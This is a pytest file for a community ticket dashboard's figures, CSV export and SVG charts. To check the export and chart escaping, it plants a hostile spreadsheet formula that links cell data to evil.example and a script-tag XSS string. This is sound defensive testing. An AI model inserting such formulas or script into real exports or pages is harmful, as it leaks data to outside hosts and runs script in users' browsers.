"""The dashboard's figures (bot.tickets.stats), its page, the CSV export, the charts."""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass
from datetime import datetime, timedelta, timezone
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import select
from sqlalchemy.engine import Engine

from bot.store.db import session_scope
from bot.store.models import Community
from bot.tickets import export, service, stats
from bot.web.charts import Series, bar_chart, line_chart, nice_max
from tests.web.conftest import WebClient, add_ticket

TZ = ZoneInfo("Asia/Shanghai")
HPXC = "和平新村3号楼2单元501"  # grid HPXC-01 (王芳)
HPXC_02 = "和平新村9号楼1单元101"  # grid HPXC-02
YY = "裕园3号楼1单元202"  # grid YY-01, 裕园社区
WORKER = "worker:1:王芳"


@dataclass
class Scenario:
    now: datetime
    a: str  # on time, resident satisfied
    b: str  # resolved late, closed by staff
    c: str  # escalated for lateness, resolved, resident unsatisfied: open again
    d: str  # open and overdue
    e: str  # open within its deadline
    f: str  # open and overdue, registered 40 days ago (outside the default range)


@pytest.fixture
def scenario(web_engine: Engine) -> Scenario:
    now = datetime.now(timezone.utc).replace(microsecond=0)
    day, hour = timedelta(days=1), timedelta(hours=1)
    a = add_ticket(web_engine, HPXC, "HEATING", now=now - 3 * day)
    b = add_ticket(web_engine, HPXC_02, "HEATING", now=now - 5 * day)
    c = add_ticket(web_engine, YY, "NOISE", description="夜里装修", now=now - 4 * day)
    d = add_ticket(web_engine, HPXC, "HEATING", now=now - 2 * day)
    e = add_ticket(web_engine, HPXC, "PETS", description="狗叫", now=now - day)
    f = add_ticket(web_engine, HPXC, "HEATING", now=now - 40 * day)
    with session_scope(web_engine) as s:
        service.resolve(s, a, WORKER, note="已修好", now=now - 3 * day + 10 * hour)
        service.close(s, a, "resident", data={"rating": "satisfied"}, now=now - 2 * day)
        service.resolve(s, b, WORKER, note="已修好", now=now - 5 * day + 30 * hour)
        service.close(s, b, "worker:9:周敏", note="居民未回复", now=now - 3 * day)
        service.escalate(s, c, actor="system:escalation", now=now - 4 * day + 49 * hour)
        service.resolve(s, c, "worker:9:周敏", note="已调解", now=now - 4 * day + 60 * hour)
        service.reopen(
            s, c, "resident", reason="还在吵", data={"rating": "unsatisfied"}, now=now - day
        )
    return Scenario(now, a, b, c, d, e, f)


def _filter(**values: str) -> stats.TicketFilter:
    f, errors = stats.parse_filter(values, datetime.now(TZ).date())
    assert not errors
    return f


def _community_id(engine: Engine, name: str) -> int:
    with session_scope(engine, readonly=True) as s:
        return s.execute(select(Community.id).where(Community.name == name)).scalar_one()


# -- figures ---------------------------------------------------------------------------


def test_counts_sla_satisfaction_overdue_and_trend(web_engine: Engine, scenario: Scenario) -> None:
    with session_scope(web_engine, readonly=True) as s:
        d = stats.build_dashboard(s, _filter(), TZ, scenario.now)
    assert d.total == 5  # f is older than the default 30 days
    assert [(r.key, r.total, r.running, r.overdue) for r in d.by_category] == [
        ("HEATING", 3, 1, 1),
        ("NOISE", 1, 1, 0),
        ("PETS", 1, 1, 0),
    ]
    assert d.by_category[0].label == "供暖供气"
    assert [(r.label, r.total) for r in d.by_community] == [("和平新村社区", 4), ("裕园社区", 1)]
    assert [(r.key, r.total) for r in d.by_grid] == [("HPXC-01", 3), ("HPXC-02", 1), ("YY-01", 1)]

    # finished: a (on time), b (late); open and late: c (escalated), d (overdue)
    assert d.sla == stats.SlaSummary(finished=2, on_time=1, open_late=2)
    assert d.sla.rate == 0.25 and d.sla.late == 3

    assert (d.satisfaction.satisfied, d.satisfaction.unsatisfied) == (1, 1)
    assert d.satisfaction.rate == 0.5

    # overdue now, whatever the date range: f (39 days) before d (1 day)
    assert [o.number for o in d.overdue] == [scenario.f, scenario.d]
    assert d.overdue_total == 2
    assert d.overdue[1].handler == "网格员王芳" and d.overdue[1].grid == "HPXC-01"

    assert len(d.trend.days) == 30 and d.trend.days[-1] == scenario.now.astimezone(TZ).date()
    assert sum(d.trend.created) == 5 and sum(d.trend.resolved) == 3
    created_day = (scenario.now - timedelta(days=5)).astimezone(TZ).date()
    assert d.trend.created[d.trend.days.index(created_day)] == 1


def test_filters_narrow_every_figure(web_engine: Engine, scenario: Scenario) -> None:
    yy = _community_id(web_engine, "裕园社区")
    with session_scope(web_engine, readonly=True) as s:
        by_community = stats.build_dashboard(s, _filter(community=str(yy)), TZ, scenario.now)
        by_grid = stats.build_dashboard(s, _filter(grid="HPXC-01"), TZ, scenario.now)
        by_category = stats.build_dashboard(s, _filter(category="HEATING"), TZ, scenario.now)
        first = (scenario.now - timedelta(days=3)).astimezone(TZ).date().isoformat()
        by_dates = stats.build_dashboard(s, _filter(**{"from": first}), TZ, scenario.now)
        all_time = stats.build_dashboard(s, _filter(**{"from": "", "to": ""}), TZ, scenario.now)

    assert by_community.total == 1
    assert by_community.sla == stats.SlaSummary(0, 0, 1)
    assert (by_community.satisfaction.satisfied, by_community.satisfaction.unsatisfied) == (0, 1)
    assert by_community.overdue == []
    assert sum(by_community.trend.created) == 1

    assert by_grid.total == 3  # a, d, e
    assert [o.number for o in by_grid.overdue] == [scenario.f, scenario.d]

    assert by_category.total == 3
    assert by_category.sla == stats.SlaSummary(finished=2, on_time=1, open_late=1)

    assert by_dates.total == 3  # a, d, e
    assert all_time.total == 6


def test_bad_filter_values_are_dropped_with_a_message() -> None:
    today = datetime.now(TZ).date()
    f, errors = stats.parse_filter(
        {"from": "2024-13-45", "to": "2024-01-31", "community": "abc", "category": "NOPE"}, today
    )
    assert f.date_from is None and f.date_to.isoformat() == "2024-01-31"
    assert f.community_id is None and f.category is None
    assert len(errors) == 3
    # swapped range
    f, errors = stats.parse_filter({"from": "2024-02-01", "to": "2024-01-01"}, today)
    assert (f.date_from.isoformat(), f.date_to.isoformat()) == ("2024-01-01", "2024-02-01")
    # defaults: the last 30 days
    f, _ = stats.parse_filter({}, today)
    assert f.date_to == today and (today - f.date_from).days == 29
    assert stats.parse_filter(f.query(), today)[0] == f


# -- CSV -------------------------------------------------------------------------------------


def test_safe_cell_defuses_formulas() -> None:
    for text in ("=1+1", "+86 138", "-2", "@SUM(A1)", "\t=x", "\r=x"):
        assert export.safe_cell(text) == "'" + text
    for text in ("暖气不热", "20260101-0001", "", "a=b", " 1"):
        assert export.safe_cell(text) == text
    assert export.safe_cell(None) == ""


def _read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM for Excel
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


async def test_csv_export_with_filters_and_formula_injection(
    admin_client: WebClient, web_engine: Engine, scenario: Scenario
) -> None:
    hostile = add_ticket(
        web_engine,
        YY,
        "NOISE",
        description='=HYPERLINK("http://evil.example/?x="&A1,"点我")',
        now=scenario.now - timedelta(hours=2),
    )
    yy = _community_id(web_engine, "裕园社区")
    response = await admin_client.get(f"/admin/tickets.csv?community={yy}&from=&to=")
    assert response.status == 200
    assert response.headers["Content-Type"].startswith("text/csv")
    assert "charset=utf-8" in response.headers["Content-Type"]
    assert response.headers["Content-Disposition"].startswith("attachment;")
    rows = _read_csv(await response.read())
    assert rows[0] == list(export.CSV_COLUMNS)
    by_number = {row[0]: row for row in rows[1:]}
    assert set(by_number) == {scenario.c, hostile}
    row = dict(zip(rows[0], by_number[hostile], strict=True))
    assert row["描述"].startswith("'=HYPERLINK(")
    assert row["类别"] == "噪音扰民" and row["状态"] == "待受理" and row["级别"] == "网格"
    assert row["社区"] == "裕园社区" and row["网格"] == "YY-01" and row["处理人"] == "网格员陈静"
    assert row["地址"] == "裕园社区3号楼1单元【房号】"  # masked unless the full export
    created = (scenario.now - timedelta(hours=2)).astimezone(TZ).strftime("%Y-%m-%d %H:%M")
    assert row["登记时间"] == created
    assert row["办结时间"] == ""
    reopened = dict(zip(rows[0], by_number[scenario.c], strict=True))
    assert reopened["状态"] == "待受理" and reopened["办结时间"] == ""  # open again


async def test_csv_export_all_pages(
    web_engine: Engine, scenario: Scenario, monkeypatch: pytest.MonkeyPatch, admin_client
) -> None:
    monkeypatch.setattr(export, "EXPORT_PAGE", 2)  # three pages for the six tickets
    response = await admin_client.get("/admin/tickets.csv?from=&to=")
    rows = _read_csv(await response.read())
    numbers = [row[0] for row in rows[1:]]
    assert sorted(numbers) == sorted(
        [scenario.a, scenario.b, scenario.c, scenario.d, scenario.e, scenario.f]
    )
    closed = dict(zip(rows[0], rows[1 + numbers.index(scenario.a)], strict=True))
    assert closed["状态"] == "已办结"
    resolved_at = (scenario.now - timedelta(days=3, hours=-10)).astimezone(TZ)
    assert closed["办结时间"] == resolved_at.strftime("%Y-%m-%d %H:%M")

    with session_scope(web_engine, readonly=True) as s:
        text = export.tickets_csv(s, _filter(**{"from": "", "to": ""}), TZ)
    assert text.startswith("\ufeff工单编号,")
    assert text.count("\r\n") == 7


# -- the page -----------------------------------------------------------------------------


async def test_dashboard_page(admin_client: WebClient, scenario: Scenario) -> None:
    response = await admin_client.get("/admin")
    assert response.status == 200
    html = await response.text()
    assert "Content-Security-Policy" in response.headers
    assert "25.0%" in html and "50.0%" in html  # on-time rate, satisfaction
    assert f'href="/tickets/{scenario.d}"' in html and f'href="/tickets/{scenario.f}"' in html
    assert html.count("<svg") == 4  # trend, category, community, grid
    assert "供暖供气" in html and "HPXC-01" in html
    assert 'href="/admin/tickets.csv?from=' in html

    filtered = await admin_client.get("/admin?grid=HPXC-02&from=&to=")
    html = await filtered.text()
    assert "HPXC-02" in html and f'href="/tickets/{scenario.d}"' not in html

    bad = await admin_client.get("/admin?from=yesterday")
    assert bad.status == 200 and "不是有效日期" in await bad.text()


async def test_dashboard_without_tickets(admin_client: WebClient) -> None:
    response = await admin_client.get("/admin")
    assert response.status == 200
    html = await response.text()
    assert "没有超时工单" in html and "暂无数据" in html


# -- charts --------------------------------------------------------------------------------


def test_bar_chart_escapes_labels() -> None:
    svg = str(bar_chart([("<script>alert(1)</script>", 3), ("正常", 1)], title='"引号"&'))
    assert "<script>" not in svg and "&lt;script&gt;" in svg
    assert "&#34;引号&#34;&amp;" in svg or "&quot;引号&quot;&amp;" in svg
    assert svg.count("<rect") == 2
    assert 'width="0"' not in svg.split("<rect")[1]  # the biggest bar is drawn


def test_line_chart_escapes_and_draws_every_point() -> None:
    labels = [f"03-{i:02d}" for i in range(1, 31)]
    svg = str(
        line_chart(
            labels,
            [Series("<b>新</b>", list(range(30)), "#123456"), Series("办结", [1] * 30, "red;x")],
            title="趋势",
        )
    )
    assert "<b>" not in svg and "&lt;b&gt;" in svg
    assert svg.count("<polyline") == 2 and svg.count("<circle") == 60
    assert "red;x" not in svg  # only #hex colours reach the attribute
    assert "03-30" in svg


def test_nice_axis() -> None:
    assert nice_max(0) == (4.0, 1.0)
    assert nice_max(3) == (3.0, 1.0)
    assert nice_max(37) == (40.0, 10.0)
    assert nice_max(101) == (150.0, 50.0)
